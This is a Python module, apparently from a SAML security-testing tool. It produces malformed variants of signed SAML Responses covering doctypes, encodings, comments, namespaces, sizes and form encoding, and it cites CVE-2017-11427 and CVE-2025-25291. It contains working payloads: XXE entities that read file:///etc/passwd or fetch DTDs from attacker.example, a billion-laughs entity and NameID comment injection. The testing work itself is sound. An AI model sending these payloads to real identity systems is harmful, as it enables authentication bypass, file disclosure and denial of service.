"""What two parsers could read in two ways: document types, encodings, comments, spellings, and sheer size.

CVE-2017-11427 and its family, CVE-2025-25291/-25292, CVE-2025-66568 ("The Fragile Lock").
"""

import base64
import gzip
import re
import zlib
from collections.abc import Iterator

from lxml import etree

from .. import idp
from .base import VICTIM, Attack, Base, container, signed, xml

_NAME_ID = re.compile(rb"(<(?:[\w-]+:)?NameID[^>]*>)([^<]+)(</)")
_VALUES = {
    name: re.compile(rb"(<(?:[\w-]+:)?%s[^>]*>)([^<]+)(</)" % name.encode())
    for name in ("NameID", "AttributeValue", "Audience", "Issuer", "DigestValue", "SignatureValue", "CipherValue")
}


def document_types(base: Base) -> Iterator[Attack]:
    """None is accepted, not even an empty one: entities, defaults and the network come with them."""
    root = etree.QName(base.document).localname
    for name, doctype in (
        ("empty", "<!DOCTYPE x>"),
        ("empty subset", "<!DOCTYPE x []>"),
        ("lower case", "<!doctype x>"),
        ("over lines", "<!DOCTYPE\n x\n>"),
        ("external", '<!DOCTYPE x SYSTEM "file:///etc/passwd">'),
        ("public", '<!DOCTYPE x PUBLIC "-//x" "http://attacker.example/x.dtd">'),
        ("entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
        ("internal entity", f'<!DOCTYPE x [<!ENTITY e "{VICTIM}">]>'),
        ("parameter entity", '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://attacker.example/e">%e;]>'),
        ("attribute default", f'<!DOCTYPE {root} [<!ATTLIST Assertion ID CDATA "_evil">]>'),
        ("attribute of type ID", f"<!DOCTYPE {root} [<!ATTLIST NameID Format ID #IMPLIED>]>"),
        ("notation", '<!DOCTYPE x [<!NOTATION n SYSTEM "http://attacker.example/n">]>'),
        ("laughs", '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'),
    ):
        for where, before in (("first", ""), ("after a declaration", '<?xml version="1.0"?>'), ("after a line", "\n")):
            yield f"{name}, {where}", (before + doctype).encode() + base.octets
    text = base.octets
    yield "used entity", b'<!DOCTYPE x [<!ENTITY e "x">]>' + _NAME_ID.sub(rb"\1\2&e;\3", text, count=1)
    end = text.index(b">") + 1
    yield "inside the root", text[:end] + b"<!DOCTYPE x>" + text[end:]
    for entity in (b"&evil;", b"&#0;", b"&#x1F;", b"&#xD800;", b"&#xFFFF;", b"&#x110000;", b"&", b"&#;", b"&amp"):
        yield f"reference {entity!r}", text[:end] + entity + text[end:]


def encodings(base: Base) -> Iterator[Attack]:
    """UTF-8 alone; what the declaration says and what the octets are must agree (CVE-2025-25291)."""
    text = base.octets
    for declared in (
        "UTF-7",
        "ISO-8859-1",
        "UTF-16",
        "UTF-16LE",
        "UCS-4",
        "EBCDIC-CP-US",
        "windows-1252",
        "ascii",
        "x",
        "",
    ):
        yield f"declared {declared!r}", f'<?xml version="1.0" encoding="{declared}"?>'.encode() + text
    for name, declaration in (
        ("version 1.1", b'<?xml version="1.1"?>'),
        ("version 2.0", b'<?xml version="2.0"?>'),
        ("twice", b'<?xml version="1.0"?><?xml version="1.0"?>'),
        ("after a space", b' <?xml version="1.0"?>'),
        ("unclosed", b'<?xml version="1.0"'),
        ("without a version", b'<?xml encoding="utf-8"?>'),
        ("upper case", b'<?XML version="1.0"?>'),
        ("encoding first", b'<?xml encoding="utf-8" version="1.0"?>'),
    ):
        yield f"declaration {name}", declaration + text
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-7", "cp037", "shift_jis_2004"):
        octets = text.decode().encode(codec)
        if octets != text:
            yield f"octets of {codec}", octets
            yield f"octets of {codec}, declared", f'<?xml version="1.0" encoding="{codec}"?>'.encode(codec) + octets
    end = text.index(b">")
    for name, octets in (
        ("Latin-1", b"\xe4"),
        ("overlong <", b"\xc0\xbc"),
        ("surrogate", b"\xed\xa0\x80"),
        ("past the end of Unicode", b"\xf5\x80\x80\x80"),
        ("cut off", b"\xe2\x82"),
        ("NUL", b"\x00"),
        ("control", b"\x01"),
        ("no character", b"\xef\xbf\xbf"),
    ):
        yield f"{name} in the root's tag", text[:end] + b' x="' + octets + b'"' + text[end:]
        yield f"{name} after the root", text + octets
    for name, mark in (("UTF-16", b"\xff\xfe"), ("UTF-8 twice", b"\xef\xbb\xbf" * 2), ("UTF-32", b"\xff\xfe\x00\x00")):
        yield f"byte order mark of {name}", mark + text


def comments(base: Base) -> Iterator[Attack]:
    """A reader's text may end at a comment: another account (Duo 2018). So none is accepted, wherever it stands."""
    text = base.octets
    end = text.index(b">") + 1
    for name, strange in (
        ("comment", b"<!--x-->"),
        ("empty comment", b"<!---->"),
        ("instruction", b"<?x y?>"),
        ("style sheet", b'<?xml-stylesheet href="http://attacker.example/x.xsl" type="text/xsl"?>'),
    ):
        yield f"{name} before the root", strange + text
        yield f"{name} after the root", text + strange
        yield f"{name} first in the root", text[:end] + strange + text[end:]
        for value, pattern in _VALUES.items():
            for index, match in enumerate(pattern.finditer(text)):
                for where, at in (("before", match.start(2)), ("in", match.start(2) + 3), ("after", match.end(2))):
                    yield f"{name} {where} {value} ({index})", text[:at] + strange + text[at:]
        for tag in (b"SignedInfo>", b"Subject>", b"Conditions>", b"CipherData>"):
            if tag in text:
                yield f"{name} in {tag.decode()}", text.replace(tag, tag + strange, 1)


def names(base: Base) -> Iterator[Attack]:
    """Names and namespaces rebound, doubled, undeclared or relative; values that are not what was signed."""
    text = base.octets
    end = text.index(b">")
    for name, attribute in (
        ("relative namespace", b' xmlns:x="relative"'),
        ("relative path as namespace", b' xmlns:x="../x"'),
        ("namespace that is a fragment", b' xmlns:x="#x"'),
        ("empty namespace of a prefix", b' xmlns:x=""'),
        ("the xml prefix rebound", b' xmlns:xml="urn:x"'),
        ("the xmlns prefix bound", b' xmlns:xmlns="urn:x"'),
        ("a prefix of the xml namespace", b' xmlns:x="http://www.w3.org/XML/1998/namespace"'),
        ("undeclared prefix", b' x:y="z"'),
        ("one attribute twice", b' Version="2.0" Version="2.0"'),
        ("ID twice", b' ID="_evil" ID="_evil2"'),
        ("one name by two prefixes", b' xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2"'),
        ("one prefix twice", b' xmlns:x="urn:a" xmlns:x="urn:b"'),
        ("no value", b" x"),
        ("no quotes", b" x=y"),
        ("< in a value", b' x="<"'),
    ):
        yield f"{name} on the root", text[:end] + attribute + text[end:]
    yield "relative default namespace", text[: end + 1] + b'<x xmlns="../x"/>' + text[end + 1 :]
    yield "relative namespace deep inside", text.replace(b"StatusCode ", b'StatusCode xmlns:x="x" ', 1)
    for index, element in enumerate(signed(base.document)):
        opening = re.compile(rb"<((?:[\w-]+:)?%s) " % etree.QName(element).localname.encode())
        for name, attribute in (
            ("xml:base", b'xml:base="http://attacker.example/" '),
            ("xml:space", b'xml:space="preserve" '),
            ("xml:lang", b'xml:lang="en" '),
            ("an attribute", b'x="y" '),
        ):
            yield f"{name} on what is signed ({index})", opening.sub(rb"<\1 " + attribute, text, count=1)
    if match := _NAME_ID.search(text):
        ends = [
            b"\n",
            b"\t",
            "\u00a0".encode(),
            "\u200b".encode(),
            b"<x/>",
            b"<![CDATA[.attacker.example]]>",
            b"&#x2e;",
        ]
        for change in ends:
            yield f"{change!r} at the end of the NameID", text[: match.end(2)] + change + text[match.end(2) :]
            yield f"{change!r} before the NameID", text[: match.start(2)] + change + text[match.start(2) :]
        for name, other in (
            ("upper case", match[2].upper()),
            ("decomposed", match[2].replace(b"a", "a\u0301".encode())),
        ):
            yield f"{name} NameID", text[: match.start(2)] + other + text[match.end(2) :]


def not_xml(base: Base) -> Iterator[Attack]:
    """What is no Response at all."""
    text = base.octets
    yield "text after the root", text + b"x"
    yield "text before the root", b"x" + text
    yield "a second root", text + text
    yield "cut off", text[:-10]
    yield "empty", b""
    yield "JSON", b'{"saml": true}'
    yield "HTML", b"<!doctype html><title>x</title>"
    yield "SAML 1.1", b'<Response xmlns="urn:oasis:names:tc:SAML:1.0:protocol"/>'
    yield "the assertion alone", xml(container(base.document))
    yield "in a SOAP envelope", b'<e:Envelope xmlns:e="urn:e"><e:Body>' + text + b"</e:Body></e:Envelope>"
    yield "in a CDATA section", b"<x><![CDATA[" + text + b"]]></x>"


def form_field(base: Base) -> Iterator[Attack]:
    """The field is base64 of the document (Bindings 3.5.4), strictly, and never inflated."""
    text, plain = idp.post(base.octets), base.octets
    yield "deflated", idp.post(zlib.compress(plain)[2:-4])
    yield "zlib", idp.post(zlib.compress(plain))
    yield "gzip", idp.post(gzip.compress(plain))
    yield "base64 twice", idp.post(text.encode())
    yield "not encoded", plain.decode()
    yield "percent-encoded", text.replace("A", "%41")
    yield "two fields in one", text + text
    yield "hexadecimal", plain.hex()
    yield "base32", base64.b32encode(plain).decode()
    yield "a letter of another script", text.replace("A", "\u0410", 1)
    yield "NUL", text[:8] + "\x00" + text[8:]
    yield "a stranger's letter", text[:8] + "!" + text[8:]
    yield "padding in the middle", text[:8] + "==" + text[8:]
    yield "padding too much", text.rstrip("=") + "====="
    yield "one letter short", text.rstrip("=")[:-1]
    yield "empty", ""


def sizes(base: Base) -> Iterator[Attack]:
    """Far above what anybody sends."""
    text = base.octets
    end = text.index(b">") + 1
    yield "deep", text[:end] + b"<x>" * 100 + b"</x>" * 100 + text[end:]
    yield "deeper than libxml2 goes", text[:end] + b"<x>" * 3000 + b"</x>" * 3000 + text[end:]
    yield "many elements", text[:end] + b"<x/>" * 12_000 + text[end:]
    scope = b"".join(b' xmlns:n%d="urn:%d"' % (number, number) for number in range(200))
    yield "many namespaces", text[:end] + b"<x" + scope + b"/>" + text[end:]
    yield "many declarations", text[:end] + b'<x xmlns:a="u:a" xmlns:b="u:b"/>' * 4100 + text[end:]
    yield "long", text[:end] + b" " * 300_000 + text[end:]


def spelling(base: Base) -> Iterator[Attack]:
    """The same document in other letters: a parser's business, and the same for whoever reads after it."""
    text = base.octets
    yield "byte order mark", b"\xef\xbb\xbf" + text
    yield "declaration", b'<?xml version="1.0" encoding="UTF-8"?>\n' + text
    yield "standalone", b"<?xml version='1.0' standalone='no'?>" + text
    yield "lines around", b"\n" + text + b"\n\n"
    yield "single quotes", text.replace(b'"', b"'")
    yield "spaces in tags", re.sub(rb"(</[\w:-]+)>", rb"\1  >", text)
    yield (
        "lines in base64",
        _VALUES["SignatureValue"].sub(lambda m: m[1] + b"\n  ".join(m[2].split()) + b"\n" + m[3], text),
    )
    yield "tab in base64", _VALUES["DigestValue"].sub(rb"\1\t\2\3", text)
    yield "carriage return in base64", _VALUES["SignatureValue"].sub(rb"\1&#13;\2\3", text)
    yield "field in lines", "\r\n".join(re.findall(".{1,76}", idp.post(text)))
    yield "field with spaces", f" {idp.post(text)} "
    for name, pattern in _VALUES.items():
        yield f"{name} in CDATA", pattern.sub(rb"\1<![CDATA[\2]]>\3", text)
        yield (
            f"{name} partly in CDATA",
            pattern.sub(lambda m: m[1] + m[2][:2] + b"<![CDATA[" + m[2][2:] + b"]]>" + m[3], text),
        )
        yield f"{name} by number", pattern.sub(lambda m: m[1] + b"".join(b"&#%d;" % c for c in m[2]) + m[3], text)
        yield f"{name} and an empty CDATA", pattern.sub(rb"\1\2<![CDATA[]]>\3", text)
    for attribute in (
        b"ID",
        b"URI",
        b"Algorithm",
        b"Recipient",
        b"InResponseTo",
        b"Method",
        b"Value",
        b"Version",
        b"Name",
    ):
        by_number = re.compile(rb'( %s=")([^"]+)"' % attribute)
        yield (
            f"{attribute.decode()} by number",
            by_number.sub(lambda m: m[1] + b"".join(b"&#x%x;" % c for c in m[2]) + b'"', text),
        )
    yield "attributes in another order", xml(_reversed(base.copy()))


def _reversed(root: etree._Element) -> etree._Element:
    for element in root.iter():
        items = list(element.attrib.items())
        element.attrib.clear()
        for name, value in reversed(items):
            element.set(name, value)
    return root


def declarations(base: Base) -> Iterator[Attack]:
    """Declarations that exclusive canonicalisation does not see, in and around what is signed."""
    text = base.octets
    for number, match in enumerate(re.finditer(rb"<[\w:-]+(?=[ >/])", text)):
        for name, more in (
            ("an unused prefix", b' xmlns:unused="urn:unused"'),
            ("a default namespace", b' xmlns="urn:other"'),
            ("no default namespace", b' xmlns=""'),
            ("saml rebound", b' xmlns:saml="urn:other"'),
            ("ds rebound", b' xmlns:ds="urn:other"'),
            ("xs rebound", b' xmlns:xs="urn:other"'),
        ):
            yield f"{name} on element {number}", text[: match.end()] + more + text[match.end() :]
